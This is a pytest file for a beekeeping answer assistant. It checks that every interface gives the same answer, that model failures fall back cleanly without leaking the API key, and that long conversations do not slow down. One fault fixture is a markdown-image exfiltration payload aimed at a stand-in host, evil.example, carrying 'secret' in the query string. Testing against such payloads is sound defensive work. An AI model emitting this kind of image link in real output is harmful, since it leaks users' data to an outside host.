"""One question at every door: the same answer. And every fault of a model ends at the same one."""

from __future__ import annotations

import json
import time
from html.parser import HTMLParser

import httpx
import pytest
from fastapi import FastAPI

from assistant.assistant import Assistant, answer
from assistant.bootstrap import Product
from assistant.commands.ask import as_text
from assistant.composing.extractive import ExtractiveComposer
from assistant.composing.model import ModelComposer
from assistant.composing.wording import Plans
from assistant.prompts import load_prompts
from assistant.server import create_app
from assistant.types import Answer, Turn
from assistant.ui.chat import answering
from assistant.ui.texts import texts_for
from tests.fakes import scripted_server as plays
from tests.fakes.chat_model import KEY, connected
from tests.fakes.scripted_server import Play, ScriptedServer

SIGNS = "What are the early signs of varroa infestation?"
QUESTIONS = [
    SIGNS,
    "What is foulbrood, and who invented the smoker?",
    "What is the ROI if the benefit is 21,000 and the cost is 12,000?",
    "What is the capital of France?",
    "wats varroa",
]
OWN = {"id", "conversation_id", "timings_ms"}


class Shown(HTMLParser):
    """The text of HTML blocks."""

    def __init__(self, blocks: list[str]) -> None:
        super().__init__()
        self.words: list[str] = []
        self.feed("".join(blocks))

    def handle_data(self, data: str) -> None:
        self.words += data.split()


@pytest.fixture(scope="module")
def app(apiary: Product) -> FastAPI:
    return create_app(apiary, page=False)


@pytest.mark.parametrize("question", QUESTIONS)
async def test_every_door_gives_the_same_answer(
    question: str, apiary: Product, app: FastAPI
) -> None:
    whole = await answer(apiary.assistant, Turn(question))
    said = whole.model_dump(mode="json", exclude=OWN)

    def same(found: object) -> bool:
        assert isinstance(found, dict)
        return {k: v for k, v in found.items() if k not in OWN} == said

    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app), base_url="http://127.0.0.1:8000", timeout=60
    ) as client:
        rest = await client.post("/v1/ask", json={"question": question})
        streamed = await client.post("/v1/ask", json={"question": question, "stream": True})
    assert same(rest.json())
    events = [
        (block.split("\n")[0].removeprefix("event: "), json.loads(block.split("data: ", 1)[1]))
        for block in streamed.text.strip().split("\n\n")
        if "data: " in block
    ]
    assert same(events[-1][1])
    assert events[-1][0] == "done"
    claims = [data for name, data in events if name == "claim"]
    assert claims == said["claims"]

    *_, (blocks, shown) = [
        step
        async for step in answering(apiary.assistant, Turn(question), question, texts_for("en"))
    ]
    assert shown is not None
    assert same(shown.model_dump(mode="json"))
    page = Shown(blocks).words
    for claim in whole.claims:
        assert " ".join(claim.text.split()) in " ".join(page)
    terminal = " ".join(as_text(shown).split())
    assert all(" ".join(line.split()) in terminal for line in whole.answer.splitlines())


FAULTS: list[tuple[str, Play]] = [
    ("503", plays.status(503)),
    ("429 for long", plays.status(429, retry_after="60")),
    ("html", plays.html()),
    ("empty", plays.says_nothing()),
    ("cut", plays.cut("Varroa mites sit")),
    ("length", plays.says("Varroa mites sit on the board.", "length")),
    ("filter", plays.says("Varroa mites sit on the board.", "content_filter")),
    ("broken call", plays.calls_tool("roi", "{oops")),
    ("uncited", plays.says("Post more often. Trust your gut.")),
    ("garbled", plays.garbled("Varroa mites sit on the board.")),
    ("image", plays.says("![x](http://evil.example/p.png?d=secret)")),
]


@pytest.mark.parametrize("play", [f[1] for f in FAULTS], ids=[f[0] for f in FAULTS])
async def test_a_failing_model_costs_the_model_and_not_the_answer(
    play: Play, apiary: Product, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    plain = await answer(apiary.assistant, Turn(SIGNS))
    prompts = load_prompts()
    with ScriptedServer(play) as server:
        assistant = Assistant(
            apiary.library,
            apiary.store,
            extractive=ExtractiveComposer(Plans(prompts.plans)),
            model=ModelComposer(connected(server), prompts, pause_s=0.01),
            model_name="scripted:one",
            versions={"prompts": "p", "app": "0"},
        )
        turn = Turn(SIGNS, conversation_id=f"c-fault-{id(play)}", owner="doors")
        found = await answer(assistant, turn)
    assert (found.answer, found.claims, found.sources) == (
        plain.answer,
        plain.claims,
        plain.sources,
    )
    assert (found.composer, found.model) == ("extractive", None)
    assert found.fallback_reason
    assert found.fallback_reason.startswith(("the model", "nothing the model", "too little"))
    assert KEY not in found.model_dump_json()
    (stored,) = apiary.store.history("doors", f"c-fault-{id(play)}")
    assert stored.answer == found


async def test_the_two_hundredth_turn_costs_what_the_tenth_did(apiary: Product) -> None:
    asked = ["What is foulbrood?", "why?", "And for swarming?", SIGNS, "how do I avoid it?"]

    async def turn(number: int, conversation: str | None) -> tuple[float, Answer]:
        began = time.perf_counter()
        found = await answer(
            apiary.assistant, Turn(asked[number % len(asked)], conversation_id=conversation)
        )
        return time.perf_counter() - began, found

    times: list[float] = []
    conversation: str | None = None
    for number in range(200):
        took, found = await turn(number, conversation)
        conversation = found.conversation_id
        times.append(took)
        assert len(found.standalone_question) < 300
    early, late = sorted(times[10:40])[15], sorted(times[170:])[15]
    # The same five questions: a turn's cost comes from the question, not from what came before.
    assert late < 3 * early + 0.05
